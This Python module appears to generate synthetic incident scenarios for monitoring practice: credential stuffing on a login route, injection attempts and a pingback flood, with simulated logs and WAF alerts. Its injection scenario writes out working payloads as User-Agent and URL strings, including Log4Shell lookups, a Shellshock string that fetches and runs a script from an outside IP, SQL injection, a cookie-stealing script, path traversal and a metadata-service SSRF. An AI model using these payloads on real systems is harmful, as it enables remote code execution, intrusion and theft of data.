"""Those who want in, and those who want us gone."""

from .... import effects as fx
from ....builder import MINUTE, Builder, Crowd, Entry, Fault, Slow, Tracked, WorkerShift
from ....scenario import Told
from ._parts import ATTACKS, CROWDS, case, deprecated, hour_is, old_client, other_products, people, strict_policy


def in_bursts(b: Builder) -> Told:
    """Three minutes of every ten, some hundred homes try one stolen pair each; a few doors open."""
    hour_is(b, 1.4)
    deprecated(b)
    start = b.onset_ms // MINUTE * MINUTE
    span = b.until_mended(start, every_s=600.0, on_s=180.0)
    addresses = people(b, "in bursts", 420)
    for key, outcomes, per_min, accounts in (
        ("wrong", {401: 1.0}, b.between("rate", 85, 120), [f"u{i:05d}" for i in range(50, 1450)]),
        ("right", {200: 1.0}, 1.4, [f"u{i:05d}" for i in range(93, 1400, 131)]),
    ):
        fx.crowd(
            b,
            Crowd(
                key=f"in bursts {key}",
                route="/api/auth/login",
                method="POST",
                per_min=per_min,
                span=span,
                addresses=addresses,
                agents=("Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) Mobile/15E148", "okhttp/4.9.0"),
                accounts=accounts,
                outcomes=outcomes,
                logged=1.0,
            ),
        )
    notes = Entry(
        service="auth",
        level="warn",
        component="anomaly",
        request=False,
        texts=(
            "type=limit_mu description=ip {ip} blocked because of too many accounts tried",
            "type=pwd_leak description=sign-in of {user} with credentials seen in a breach",
            "type=fp description=wrong password strategy=database connection=Users",
        ),
    )
    fx.say(b, "in bursts", notes, 5.0, span)
    return Told(services=("auth",), routes=("/api/auth/login",), severity="P1", onset_ms=start)


def in_the_headers(b: Builder) -> Told:
    """The addresses asked for are harmless; what is asked by whom is not: the browser's name is a program."""
    hour_is(b, 7.1)
    old_client(b)
    other_products(b)
    span = b.until_mended(b.onset_ms, ramp_s=30.0)
    agents = (
        "${jndi:ldap://5.188.206.11:1389/Basic/Command/Base64/Y3VybA==}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.dnslog.example/a}",
        "() { :;}; echo; /bin/bash -c 'curl http://5.188.206.11/x|sh'",
        "Mozilla/5.0' AND (SELECT 4411 FROM (SELECT(SLEEP(5)))x)-- -",
        "<script>document.location='//x.dnslog.example/?c='+document.cookie</script>",
    )
    plans = (
        ("/api/pitches", ("/api/pitches?page={n}", "/api/pitches?page=1&utm_source=..;/..;/"), 0.4),
        (
            "/api/browse",
            ("/api/browse?genre=drama", "/api/browse?callback=http://169.254.169.254/latest/meta-data/"),
            0.4,
        ),
        ("/api/auth/verify", ("/api/auth/verify", "/api/auth/verify?token=1'%20OR%20'1'='1"), 0.2),
    )
    per_min = b.between("rate", 26, 40)
    for path, urls, part in plans:
        fx.crowd(
            b,
            Crowd(
                key=f"headers {path}",
                route=path,
                method="POST" if path.endswith("verify") else "GET",
                per_min=per_min * part,
                span=span,
                addresses=fx.strangers(b, "headers", 5, "80.94.95."),
                agents=agents,
                urls=urls,
                outcomes={401: 0.9, 500: 0.1} if path.endswith("verify") else {200: 0.84, 400: 0.11, 500: 0.05},
                logged=0.9,
                blocked=0.12,
                rule="managed-932130",
                entries=(
                    Entry(
                        level="error",
                        component="handler",
                        share=0.06,
                        texts=(
                            'PostgresError: unterminated quoted string at or near "\'1" ({route})',
                            "TypeError: fetch failed: refused by egress policy, host 169.254.169.254 ({route})",
                        ),
                    ),
                ),
            ),
        )
    end = min(b.end_ms, span.end_ms)
    times = b.rng("headers events").integers(b.onset_ms, end, int((end - b.onset_ms) / MINUTE))
    broken = Tracked(type="PostgresError", value="unterminated quoted string", culprit="query(src/db/client)")
    fx.issue(b, "headers", broken, times.tolist(), users=1)
    fx.security_events(b, "suspicious_login_attempt", span, 2.2)
    fx.security_events(b, "sql_injection_attempt", span, 1.6)
    fx.security_events(b, "xss_attempt", span, 1.2)
    found = Entry(
        service="security",
        level="warn",
        component="waf",
        request=False,
        texts=(
            "rule 932130 Remote Command Execution: Unix Shell Expression Found within REQUEST_HEADERS:User-Agent",
            "rule 944150 Potential Remote Command Execution: Log4j / Log4shell, matched User-Agent, action=log",
        ),
    )
    fx.say(b, "headers", found, 3.0, span)
    return Told(services=("api-gateway", "security"), routes=tuple(p for p, *_ in plans), severity="P2")


def pingbacks(b: Builder) -> Told:
    """Thousands of other people's weblogs are made to ask our front page whether it links to them."""
    hour_is(b, 21.8)
    strict_policy(b)
    span = b.until_mended(b.onset_ms, ramp_s=50.0)
    weblogs = fx.strangers(b, "weblogs", 2600)
    agents = tuple(
        f"WordPress/{version}; https://{name}.example; verifying pingback from 193.32.162.{tail}"
        for version, name, tail in (
            ("6.4.3", "kitchen-tales", 7),
            ("5.9.12", "alpenblick-ferien", 7),
            ("6.2", "taller-de-cine", 19),
            ("4.9.26", "old-motorbikes", 19),
        )
    )
    normal = 110.0
    for path, times, outcomes in (
        ("/", b.between("times", 17, 24), {200: 0.46, 429: 0.26, 503: 0.28}),
        ("/api/pitches/trending", 5.0, {200: 0.4, 429: 0.42, 503: 0.18}),
    ):
        fx.crowd(
            b,
            Crowd(
                key=f"pingbacks {path}",
                route=path,
                per_min=normal * times,
                span=span,
                addresses=weblogs,
                agents=agents,
                urls=(path + "?{id}={id2}",),
                outcomes=outcomes,
                logged=0.03,
                blocked=0.2,
                rule="ratelimit-root",
                took_ms=260.0,
            ),
        )
    fx.fail(
        b,
        Fault(
            key="pingbacks",
            hits={**fx.in_worker(b.between("broken", 0.07, 0.13)), "/": 0.2, "/pitches": 0.1},
            span=span,
            status=503,
            took_ms=3100.0,
            body={"success": False, "message": "Service Unavailable"},
            entries=(
                Entry(
                    service="api-gateway",
                    component="admission",
                    level="error",
                    most_per_min=20,
                    texts=("in_flight={waiting} max=64 decision=reject route={route} status=503",),
                ),
            ),
            tracked=Tracked(type="RejectedError", value="admission: max in flight", culprit="admit(src/gateway/queue)"),
        ),
    )
    fx.slow(b, Slow(key="pingbacks", hits=fx.in_worker(0.7), span=span, factor=2.0, add_ms=340.0))
    b.edge_cache.append((("/",), span, 0.25))
    fx.database(b, span, queryCount=(2.1, 0.0), activeConnections=(1.9, 2.0))
    fx.database(b, span, avgQueryTime=(1.6, 6.0), p95QueryTime=(1.8, 35.0), p99QueryTime=(1.8, 80.0))
    fx.worker(b, WorkerShift(script=fx.PRODUCTION, span=span, cpu=1.25))
    return Told(services=("frontend", "api-gateway", "pitch"), routes=("/", "/api/pitches/trending"), severity="P2")


SCENARIOS = (
    case("in_bursts", "Stolen pairs in bursts", "brute_force", in_bursts, ATTACKS, onset_min=(44, 57)),
    case(
        "in_the_headers",
        "A name that is a program",
        "injection_attack",
        in_the_headers,
        ATTACKS,
        onset_min=(16, 27),
        beside=("unrelated_deployment",),
    ),
    case("pingbacks", "Weblogs by the thousand", "traffic_flood", pingbacks, CROWDS, onset_min=(10, 17)),
)
